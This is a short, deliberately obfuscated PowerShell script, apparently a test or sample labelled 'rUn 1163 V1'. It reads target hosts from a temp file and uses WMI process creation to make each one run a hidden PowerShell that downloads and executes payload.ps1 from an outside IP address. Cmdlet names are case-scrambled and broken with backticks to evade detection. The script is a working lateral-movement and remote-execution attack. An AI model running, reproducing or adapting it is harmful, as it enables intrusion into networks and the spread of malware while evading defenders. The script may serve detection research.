# rUn 1163 V1
$tArGeTs = GEt-`C`oNTeNT c:\wInDoWs\TEMP\HOsTS.TXT
FoReAcH ($T in $tARgEtS) {
  iNvO`ke-W`mImet`hoD -CompuTErnaMe $T -cLaSs wIN32_proCess -NAME cReaTE -argumeNTlisT "powershell -nop -w hidden -c iex(iwr http://203.0.113.200/payload.ps1)"
}
